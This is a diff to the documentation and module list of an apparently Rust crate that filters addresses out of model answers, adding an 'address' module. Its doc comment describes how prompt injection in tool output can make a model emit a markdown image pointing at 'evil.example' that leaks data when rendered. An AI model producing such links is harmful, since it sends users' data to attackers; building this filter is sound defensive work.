@@ -3,7 +3,7 @@
 //! Interfaces render answers. By prompt injection, a text that a tool returned can make the model answer with an
 //! image such as `![x](https://evil.example/?q=…)`. Rendering it sends the data in its address to the attacker
 //! without a click, which is data exfiltration. No prompt reliably prevents that; a filter does. `links` splits
-//! answers into text and code, `sanitize` removes addresses from text.
+//! answers into text and code, `sanitize` removes addresses from text, `address` knows them.
 //!
 //! # Examples
 //!
@@ -23,6 +23,7 @@
 //! # }
 //! ```
 
+mod address;
 mod links;
 mod sanitize;
 #[cfg(test)]
